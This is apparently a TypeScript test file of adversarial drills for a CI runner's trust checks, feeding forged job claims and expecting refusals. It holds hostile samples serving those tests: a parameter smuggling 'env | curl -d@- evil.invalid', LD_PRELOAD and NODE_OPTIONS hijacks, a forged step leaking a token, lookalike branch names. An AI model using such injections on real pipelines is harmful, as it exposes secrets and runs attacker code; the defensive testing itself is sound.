import type { BuildJob, PlanJob, Step } from "@ringfort/contract";
import { bytesOf, canonicalize, digestOf } from "@ringfort/seal";
import { type Lie, refuse, withClaim, withInputs, withSecrets } from "./lie.ts";
import { planOf, resultOf } from "./truth.ts";
import { orb, type World } from "./world.ts";

const deploy = "deploy" as const;

/** What a forged step prints, when it runs. */
export const forgedMark = "the forged step has run";

/** D5, D9, D10: other refs, other commits, other jobs, other inputs. */
export const liesAboutWork: readonly Lie[] = [
  {
    drill: "D5",
    does: "names a branch that the trust file does not allow, at the same commit",
    job: deploy,
    tell: (truth) => atRef(truth, "refs/heads/feature"),
    must: refuse("ref-not-allowed"),
  },
  {
    drill: "D5",
    does: "names a branch that looks like main (a Cyrillic letter)",
    job: deploy,
    tell: (truth) => atRef(truth, "refs/heads/m\u0430in"),
    must: refuse("ref-not-allowed", "policy-unicode-twin", "policy-other-ref"),
  },
  {
    drill: "D5",
    does: "names main in other letters",
    job: deploy,
    tell: (truth) => atRef(truth, "refs/heads/Main"),
    must: refuse("ref-not-allowed", "policy-case-twin"),
  },
  {
    drill: "D5",
    does: "names a branch whose own name is that of a ref",
    job: deploy,
    tell: (truth) => atRef(truth, "refs/heads/refs/heads/main"),
    must: refuse("ref-not-allowed"),
  },
  {
    drill: "D5",
    does: "uses a tag that is called main",
    job: deploy,
    tell: async (truth, world) => {
      await world.git("tag", "main", world.revision);
      await world.git("push", "--quiet", "origin", "refs/tags/main");
      return truth;
    },
    must: refuse("ref-ambiguous"),
  },
  {
    drill: "D5",
    does: "runs work of no ref at all",
    job: deploy,
    tell: ({ claim, secrets }) => {
      const { ref: _ref, branch: _branch, ...checkout } = claim.checkout;
      return { claim: { ...claim, checkout }, secrets };
    },
    must: refuse("ref-not-allowed"),
  },
  {
    drill: "D9",
    does: "adds a step",
    job: deploy,
    tell: (truth) => withJob(truth, (build) => ({ ...build, steps: [forgedStep(build), ...build.steps] })),
    must: { runOurs: true },
  },
  {
    drill: "D9",
    does: "changes the command",
    job: deploy,
    tell: (truth) => withJob(truth, (build) => ({ ...build, steps: [forgedStep(build)] })),
    must: { runOurs: true },
  },
  {
    drill: "D9",
    does: "changes the shell",
    job: deploy,
    tell: (truth) => withJob(truth, (build) => ({ ...build, shell: `/bin/sh -c 'echo ${forgedMark}'` })),
    must: { runOurs: true },
  },
  {
    drill: "D9",
    does: "changes the working directory and the environment of the job",
    job: deploy,
    tell: (truth) =>
      withJob(truth, (build) => ({
        ...build,
        workingDirectory: "/tmp",
        environment: { ...build.environment, BASH_ENV: "/tmp/evil", TOKEN: "the server's" },
      })),
    must: { runOurs: true },
  },
  {
    drill: "D9",
    does: "sends variables that load code: BASH_ENV, LD_PRELOAD, NODE_OPTIONS, PATH, GIT_SSH_COMMAND",
    job: deploy,
    tell: (truth) =>
      withClaim(truth, {
        builtIns: { ...truth.claim.builtIns, ...loaders },
        variables: { ...truth.claim.variables, ...loaders },
      }),
    must: { runOurs: true },
  },
  {
    drill: "D9",
    does: "runs the job on many nodes",
    job: deploy,
    tell: (truth) => withClaim(truth, { node: { index: 3, total: 8 } }),
    must: refuse("job-not-in-config", "request-malformed"),
  },
  {
    drill: "D9",
    does: "gives the tests the deployment's context",
    job: deploy,
    tell: (truth, world) => {
      const test = planOf(world.configText, "main", "test");
      return withClaim(truth, { job: { ...test, contexts: ["prod"] } });
    },
    must: { runWithout: true },
  },
  {
    drill: "D9",
    does: "invents a job",
    job: deploy,
    tell: (truth) => withClaim(truth, { job: { ...truth.claim.job, name: "exfiltrate", declaredName: "exfiltrate" } }),
    must: refuse("job-not-in-config"),
  },
  {
    drill: "D9",
    does: "invents a workflow",
    job: deploy,
    tell: (truth) => withClaim(truth, { workflow: { ...truth.claim.workflow, name: "other" } }),
    must: refuse("job-not-in-config"),
  },
  {
    drill: "D10",
    does: "passes a pipeline parameter that nobody allowed",
    job: deploy,
    tell: async (truth, world) => {
      const parameters = { target: "x; env | curl -d@- evil.invalid" };
      const digest = await digestOf(bytesOf(canonicalize(parameters)));
      const results = [await resultOf(world, truth.claim, "test", { parameters: digest })];
      return withSecrets(withInputs(truth, { parameters }), { results });
    },
    must: refuse("parameter-not-allowed", "policy-parameter"),
  },
  {
    drill: "D10",
    does: "names a commit that is not on main: one of a pull request",
    job: deploy,
    tell: async (truth, world) => atCommit(truth, await imposter(world)),
    must: refuse("commit-not-on-ref"),
  },
  {
    drill: "D10",
    does: "names a real commit of main, a year old",
    job: deploy,
    tell: async (truth, world) => {
      const commit = await world.git("rev-parse", "main~1");
      const results = [await resultOf(world, truth.claim, "test", { commit })];
      return atCommit(withSecrets(truth, { results }), commit);
    },
    must: refuse("commit-too-old"),
  },
  {
    drill: "D10",
    does: "names a commit that does not exist",
    job: deploy,
    tell: (truth) => atCommit(truth, "0123456789".repeat(4)),
    must: refuse("commit-not-on-ref"),
  },
  {
    drill: "D10",
    does: "says that the config came with the trigger",
    job: deploy,
    tell: (truth) => withInputs(truth, { configSource: "api" }),
    must: refuse("config-not-from-git"),
  },
  {
    drill: "D10",
    does: "continues the pipeline with a config that nobody vouches for",
    job: deploy,
    tell: (truth, world) =>
      withSecrets(truth, { continuation: { config: world.configText, parameters: {}, statement: null } }),
    must: refuse("continuation-unsigned", "continuation-missing"),
  },
  {
    drill: "D10",
    does: "names another config file of the repository",
    job: deploy,
    tell: (truth) => withInputs(truth, { configPath: "old.txt" }),
    must: refuse("config-path-other"),
  },
  {
    drill: "D16",
    does: "gives an orb whose version was moved to other text",
    job: deploy,
    tell: (truth) =>
      withInputs(truth, { orbs: { [orb.reference]: orb.source.replace("echo a tool", `echo ${forgedMark}`) } }),
    must: refuse("orb-changed"),
  },
  {
    drill: "D16",
    does: "gives no orb",
    job: deploy,
    tell: (truth) => withInputs(truth, { orbs: {} }),
    must: refuse("config-does-not-compile", "orb-not-locked", "orb-changed"),
  },
  {
    drill: "D4",
    does: "runs the job of a fork",
    job: deploy,
    tell: (truth) => withInputs(truth, { isFork: true }),
    must: refuse("fork"),
  },
  {
    drill: "D13",
    does: "runs the job again with SSH",
    job: deploy,
    tell: (truth) => withInputs(truth, { isSshRerun: true }),
    must: refuse("ssh-rerun"),
  },
  {
    drill: "D10",
    does: "names another repository, which the attacker controls",
    job: deploy,
    tell: (truth) => withClaim(truth, { checkout: { ...truth.claim.checkout, url: "file:///nowhere/evil.git" } }),
    must: { runOurs: true },
  },
  {
    drill: "D10",
    does: "names another project, for which the runner's owner wrote nothing",
    job: deploy,
    tell: (truth) => withClaim(truth, { project: { ...truth.claim.project, slug: "circleci/drill/other" } }),
    must: refuse("project-not-trusted"),
  },
];

const loaders = {
  BASH_ENV: "/tmp/evil",
  ENV: "/tmp/evil",
  LD_PRELOAD: "/tmp/evil.so",
  NODE_OPTIONS: "--require /tmp/evil.js",
  GIT_SSH_COMMAND: "/tmp/evil",
  PATH: "/tmp/evil",
};

function forgedStep({ steps }: BuildJob): Step {
  const [step] = steps;
  if (step?.type !== "run") throw new Error("The drill's own job begins with a command.");
  return { ...step, name: "Forged", command: `echo "${forgedMark}"; printf %s "$TOKEN" | base64` };
}

function withJob<T extends { readonly claim: { readonly job: PlanJob } }>(
  truth: T,
  change: (build: BuildJob) => BuildJob,
): T {
  const { job } = truth.claim;
  return { ...truth, claim: { ...truth.claim, job: { ...job, build: change(job.build!) } } };
}

function atRef<T extends Parameters<typeof withClaim>[0]>(truth: T, ref: string) {
  const branch = ref.slice("refs/heads/".length);
  return withClaim(truth, { checkout: { ...truth.claim.checkout, ref, branch } });
}

function atCommit<T extends Parameters<typeof withClaim>[0]>(truth: T, revision: string) {
  return withClaim(truth, { checkout: { ...truth.claim.checkout, revision } });
}

/** In the repository, as a pull request of a fork is, and on no branch. */
async function imposter(world: World): Promise<string> {
  await world.git("checkout", "--quiet", "--detach", "main");
  const revision = await world.commit({ "evil.txt": "evil" }, "Not merged");
  await world.git("push", "--quiet", "--force", "origin", `${revision}:refs/pull/1/head`);
  await world.git("checkout", "--quiet", "main");
  return revision;
}
